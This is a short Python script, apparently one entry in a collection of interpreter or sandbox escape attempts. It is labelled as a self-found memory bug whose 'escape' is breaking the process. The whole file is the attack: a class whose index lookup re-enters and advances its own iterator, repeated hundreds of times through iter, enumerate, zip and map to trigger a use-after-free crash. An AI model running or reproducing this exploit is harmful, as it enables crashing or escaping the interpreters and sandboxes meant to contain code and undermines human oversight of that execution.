"""Class: memory. Source: own find. Escape: the process breaks. An object that is gone over by index asks its
iterator for more and ends many times: the iterator lets go of it each time."""


class Values:
    def __init__(self):
        self.asked = 0

    def __getitem__(self, index):
        self.asked += 1
        if self.asked < 10:
            next(around[0], None)
        raise IndexError


around = [None]


def attack(model, tokenizer, address):
    kept = []
    makers = (iter, enumerate, zip, lambda values: map(lambda each: each, values))
    for make in makers:
        for _ in range(200):
            values = Values()
            kept.append(values)
            around[0] = make(values)
            del values
            next(around[0], None)
            kept.append([[i] for i in range(10)])
    return repr([each.asked for each in kept[::2]])
